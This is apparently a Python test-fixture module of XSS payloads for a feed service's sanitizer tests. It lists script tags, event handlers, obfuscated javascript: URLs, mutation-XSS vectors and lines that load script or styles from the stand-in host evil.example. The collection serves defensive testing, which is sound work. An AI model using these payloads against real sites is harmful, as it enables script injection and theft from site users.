"""Hostile input for the content-safety tests, written for feedsvc.

``HTML_VECTORS`` are HTML fragments that try to run script, load active content, restyle or
replace the reader's page, or survive a sanitizer by exploiting how HTML is re-parsed
(mutation XSS). ``TITLE_VECTORS`` are plain-text fields that carry markup; ``URL_VECTORS``
are link targets with script schemes, including the obfuscations browsers still accept.
"""

from __future__ import annotations

HTML_VECTORS: tuple[str, ...] = (
    # script, in every spelling
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img """><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    "<svg><script>alert(1)</script></svg>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="https://ok.example/i.png" onload="alert(1)">',
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="https://ok.example/" onclick="alert(1)">click</a>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<frameset onload=alert(1)>",
    # script URLs in HTML attributes
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="java&#x0A;script:alert(1)">click</a>',
    '<a href="&#1;javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">c</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">c</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<img src=javascript:alert(1)>",
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    '<blockquote cite="javascript:alert(1)">quoted</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>',
    # frames, plugins, forms, page takeover
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="Evil.class"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # style
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width:expression(alert(1))">old IE</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>',
    # parser differentials and mutation XSS
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div><svg><style><img src=x onerror=alert(1)></style></svg></div>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:/*--></title></style></textarea></script></xmp>'
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>\">polyglot</a>",
)

TITLE_VECTORS: tuple[str, ...] = (
    "<script>alert(1)</script>Scripted title",
    '<img src=x onerror="alert(1)">Image title',
    "<b>Bold</b> title",
    '"><svg onload=alert(1)> Broken-out title',
    "</title><script>alert(1)</script> Closing title",
)

URL_VECTORS: tuple[str, ...] = (
    "javascript:alert(1)",
    " JavaScript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "jav&#x61;script:alert(1)",
)
